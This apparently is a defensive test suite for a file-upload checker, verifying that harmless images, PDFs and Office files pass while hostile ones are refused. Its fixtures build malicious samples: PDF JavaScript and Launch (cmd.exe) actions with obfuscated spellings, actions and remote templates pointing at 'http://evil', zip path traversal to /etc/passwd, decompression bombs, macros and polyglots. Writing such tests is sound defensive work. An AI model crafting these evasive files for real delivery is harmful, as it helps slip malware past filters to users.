// Is whatever would harm its reader refused, and nothing else?
import { randomBytes } from 'node:crypto'
import { writeFileSync } from 'node:fs'
import { deflateSync } from 'node:zlib'
import { describe, expect, test } from 'vitest'
import { kindOf } from '../../api/evidence/file-kind.ts'
import { DomainError } from '../../domain/language/errors.ts'
import { exifHead, png } from '../support/browser/pictures.ts'
import { docx, packed, pdf, xlsx, zip } from '../support/people/hostile.ts'
import { path, useQuarantineFolder } from './verdicts.ts'

useQuarantineFolder()

const verdictOn = async (name: string, content: Buffer | string): Promise<string> => {
  writeFileSync(path, content)
  try {
    return await kindOf(path, name)
  } catch (error) {
    if (!(error instanceof DomainError)) throw error
    const [reason] = error.reasons
    expect([reason?.zh, reason?.en].every((words) => words && words.length > 5)).toBe(true)
    return `${error.code}: ${reason?.en}`
  }
}

const sized = (width: number, height: number): Buffer => {
  const picture = png(8, 8)
  picture.writeUInt32BE(width, 16)
  picture.writeUInt32BE(height, 20)
  return picture
}
const jpeg = (width: number, height: number, more = ''): Buffer => {
  const frame = Buffer.from([
    0xff, 0xc0, 0, 17, 8, 0, 0, 0, 0, 3, 1, 0x22, 0, 2, 0x11, 1, 3, 0x11, 1,
  ])
  frame.writeUInt16BE(height, 5)
  frame.writeUInt16BE(width, 7)
  const head = exifHead('2026:03:02 09:00:00', null).subarray(0, -2)
  return Buffer.concat([
    head,
    frame,
    Buffer.from([0xff, 0xda, 0, 2]),
    Buffer.from(more, 'latin1'),
    Buffer.from([0xff, 0xd9]),
  ])
}

/** Packed objects after pairs of number and offset that nobody honest would write. */
const packedAs = (pairs: string, objects: string, level = 6): Buffer => {
  const content = deflateSync(Buffer.from(`${pairs}${objects}`, 'latin1'), { level })
  const head = `<< /Type /ObjStm /N 2 /First ${pairs.length} /Filter /FlateDecode >>\nstream\n`
  return Buffer.concat([Buffer.from(head), content, Buffer.from('\nendstream')])
}

/** A letter with two more parts, of which the second claims the bytes of the first. */
const inEachOther = (): Buffer => {
  const noise = randomBytes(4_000)
  const letter = docx([
    { name: 'word/a.png', content: noise },
    { name: 'word/b.png', content: '' },
  ])
  const entry = (name: string) => letter.lastIndexOf(name) - 46
  letter.copy(letter, entry('word/b.png') + 16, entry('word/a.png') + 16, entry('word/a.png') + 28)
  letter.copy(letter, entry('word/b.png') + 42, entry('word/a.png') + 42, entry('word/a.png') + 46)
  return letter
}

const quiet = '<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /FitH 842] >>'
const office = 'application/vnd.openxmlformats-officedocument'

describe('what an honest person sends is kept', () => {
  test.each([
    ['a picture', 'a.png', png(30, 20), 'image/png'],
    ['a photograph of a telephone', 'a.JPG', jpeg(4000, 3000), 'image/jpeg'],
    ['a document', 'a.pdf', pdf(quiet), 'application/pdf'],
    [
      'a document that opens at a page',
      'a.pdf',
      pdf('<< /OpenAction 2 0 R >>', '<< /S /GoTo /D [3 0 R /Fit] >>'),
      'application/pdf',
    ],
    [
      'a document with packed objects',
      'a.pdf',
      pdf(
        '<< /OpenAction 9 0 R >>',
        packed([
          [8, '<< /A 1 >>'],
          [9, '[3 0 R /Fit]'],
        ]),
      ),
      'application/pdf',
    ],
    [
      'a document that speaks of scripts',
      'a.pdf',
      pdf(quiet, '<< /Title (JavaScript and Launch) >>'),
      'application/pdf',
    ],
    ['a letter', 'a.docx', docx(), `${office}.wordprocessingml.document`],
    [
      'a table',
      'a.xlsx',
      xlsx([{ name: 'xl/printerSettings/printerSettings1.bin', content: 'x' }]),
      `${office}.spreadsheetml.sheet`,
    ],
    [
      'a letter with a link',
      'a.docx',
      docx([
        {
          name: 'word/_rels/document.xml.rels',
          content:
            '<Relationship Type="http://x/hyperlink" TargetMode="External" Target="https://x"/>',
        },
      ]),
      `${office}.wordprocessingml.document`,
    ],
  ])('%s', async (_, name, content, type) => {
    expect(await verdictOn(name, content)).toBe(type)
  })
})

describe('what would harm its reader is refused', () => {
  test.each([
    [
      'a program called a document',
      'a.pdf',
      Buffer.from(`MZ${'\0'.repeat(200)}`, 'latin1'),
      /^file-type-refused/,
    ],
    [
      'a page called a picture',
      'a.png',
      '<html><script>alert(1)</script></html>',
      /^file-type-refused/,
    ],
    ['an archive', 'a.zip', zip([{ name: 'a.txt', content: 'x' }]), /^file-type-refused/],
    [
      'an archive called a table',
      'a.xlsx',
      zip([{ name: 'a.txt', content: 'x' }]),
      /^file-unsafe: Archives/,
    ],
    ['a letter called a table', 'a.xlsx', docx(), /^file-type-refused/],
    [
      'a bomb',
      'a.xlsx',
      xlsx([{ name: 'xl/worksheets/sheet1.xml', content: Buffer.alloc(120 * 1024 * 1024, 32) }]),
      /too large/,
    ],
    [
      'a bomb that lies about its size',
      'a.xlsx',
      xlsx([{ name: 'xl/a.xml', content: Buffer.alloc(5_000_000, 32), claimed: 1_000 }]),
      /too large/,
    ],
    [
      'ten thousand parts',
      'a.docx',
      docx(Array.from({ length: 10_000 }, (_, n) => ({ name: `word/${n}.xml`, content: '' }))),
      /too large/,
    ],
    [
      'a locked letter',
      'a.docx',
      docx([{ name: 'word/a.xml', content: '', encrypted: true }]),
      /encrypted/,
    ],
    [
      'a path out of the archive',
      'a.docx',
      docx([{ name: '../../etc/passwd', content: 'x' }]),
      /lead elsewhere/,
    ],
    ['macros', 'a.docx', docx([{ name: 'word/vbaProject.bin', content: 'x' }]), /macros/],
    [
      'macros by type',
      'a.docx',
      docx(
        [],
        '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
      ),
      /macros/,
    ],
    [
      'an embedded object',
      'a.docx',
      docx([{ name: 'word/embeddings/oleObject1.bin', content: 'x' }]),
      /macros/,
    ],
    [
      'a template from elsewhere',
      'a.docx',
      docx([
        {
          name: 'word/_rels/settings.xml.rels',
          content:
            '<Relationship Type="http://x/attachedTemplate" TargetMode="External" Target="http://evil"/>',
        },
      ]),
      /external links/,
    ],
    [
      'a template from elsewhere behind a sign that looks like an end',
      'a.docx',
      docx([
        {
          name: 'word/_rels/settings.xml.rels',
          content:
            '<r:Relationship Id=">" Type="http://x/attachedTemplate" TargetMode="External" Target="http://evil"/>',
        },
      ]),
      /external links/,
    ],
    [
      'entities',
      'a.docx',
      docx([{ name: 'word/a.xml', content: '<!DOCTYPE x [<!ENTITY a "aa">]>' }]),
      /broken/,
    ],
    ['parts that lie in each other', 'a.docx', inEachOther(), /broken/],
    ['a torn archive', 'a.docx', docx().subarray(0, -30), /broken/],
    ['a script', 'a.pdf', pdf(quiet, '<< /S /JavaScript /JS (app.alert(1)) >>'), /script/],
    [
      'a script under another spelling',
      'a.pdf',
      pdf(quiet, '<< /S /J#61vaScript /J#53 (app.alert(1)) >>'),
      /script/,
    ],
    [
      'a packed script',
      'a.pdf',
      pdf(quiet, packed([[7, '<< /S /JavaScript /JS (x) >>']])),
      /script/,
    ],
    [
      'a packed script under another spelling',
      'a.pdf',
      pdf(
        quiet,
        Buffer.from(
          packed([[7, '<< /S /JavaScript /JS (x) >>']])
            .toString('latin1')
            .replace('/ObjStm', '/ObjS#74m'),
          'latin1',
        ),
      ),
      /script/,
    ],
    [
      'a script whose name ends with a zero byte',
      'a.pdf',
      pdf(quiet, '<< /S /JavaScript\0/JS\0(app.alert(1)) >>'),
      /script/,
    ],
    [
      'a script that begins in one packed object and ends in the next',
      'a.pdf',
      pdf(quiet, packedAs('1 0 2 10 ', '<< /S /JavaScript /JS (x) >>')),
      /script/,
    ],
    [
      'packed objects that lie in each other',
      'a.pdf',
      pdf(quiet, packedAs('1 9 2 0 ', '<< /A 1 >> << /B 2 >>')),
      /cannot be checked/,
    ],
    [
      'objects packed in packed objects',
      'a.pdf',
      pdf(quiet, packedAs('1 0 ', packedAs('2 0 ', '<< >>', 0).toString('latin1'), 0)),
      /cannot be checked/,
    ],
    [
      'objects packed so that nobody can look',
      'a.pdf',
      pdf(quiet, packed([[7, '<< >>']], '/Filter [/ASCIIHexDecode /FlateDecode]')),
      /cannot be checked/,
    ],
    [
      'objects packed without end',
      'a.pdf',
      pdf(quiet, packed([[7, 'x'.repeat(70_000_000)]])),
      /cannot be checked/,
    ],
    [
      'a program to start',
      'a.pdf',
      pdf(quiet, '<< /S /Launch /F (cmd.exe) >>'),
      /starts something/,
    ],
    [
      'a page on the net on opening',
      'a.pdf',
      pdf('<< /OpenAction << /S /URI /URI (http://evil) >> >>'),
      /starts something/,
    ],
    [
      'the same said elsewhere',
      'a.pdf',
      pdf('<< /OpenAction 2 0 R >>', '<< /S /URI /URI (http://evil) >>'),
      /starts something/,
    ],
    [
      'the same said after a harmless one',
      'a.pdf',
      pdf('<< /OpenAction [3 0 R] /OpenAction << /S /URI /URI (http://evil) >> >>'),
      /starts something/,
    ],
    [
      'the same said in a later version',
      'a.pdf',
      Buffer.concat([
        pdf('<< /OpenAction 9 0 R >>', packed([[9, '[3 0 R /Fit]']])),
        Buffer.from('09  0 obj << /S /URI /URI (http://evil) >> endobj'),
      ]),
      /starts something/,
    ],
    [
      'the same said of what is not there',
      'a.pdf',
      pdf('<< /OpenAction 9 0 R >>'),
      /starts something/,
    ],
    [
      'a form that sends',
      'a.pdf',
      pdf(quiet, '<< /S /SubmitForm /F (http://evil) >>'),
      /starts something/,
    ],
    ['an attachment', 'a.pdf', pdf(quiet, '<< /Type /EmbeddedFile >>'), /embedded/],
    [
      'a locked document',
      'a.pdf',
      Buffer.concat([pdf(quiet), Buffer.from('trailer << /Encrypt 5 0 R >>')]),
      /encrypted/,
    ],
    ['a picture of four thousand million points', 'a.png', sized(65_500, 65_500), /pixels/],
    ['a picture without a width', 'a.png', sized(0, 10), /broken/],
    ['a photograph of four thousand million points', 'a.jpg', jpeg(65_000, 65_000), /pixels/],
    [
      'the same behind bytes that make no sense',
      'a.jpg',
      Buffer.concat([
        Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 4, 1, 2]),
        Buffer.from('noise'),
        jpeg(65_000, 65_000).subarray(2),
      ]),
      /pixels/,
    ],
    [
      'a photograph that is an archive too',
      'a.jpg',
      Buffer.concat([jpeg(10, 10), zip([{ name: 'a.exe', content: 'x' }])]),
      /another kind/,
    ],
    [
      'a photograph that is a page too',
      'a.jpg',
      jpeg(10, 10, '<script>alert(1)</script>'),
      /another kind/,
    ],
    [
      'a picture that is a document too',
      'a.png',
      Buffer.concat([png(1, 1), pdf(quiet)]),
      /another kind/,
    ],
    [
      'a document that is an archive too',
      'a.pdf',
      Buffer.concat([pdf(quiet), zip([{ name: 'a.exe', content: 'x' }])]),
      /another kind/,
    ],
  ])('%s', async (_, name, content, why) => {
    expect(await verdictOn(name, content)).toMatch(why)
  })
})
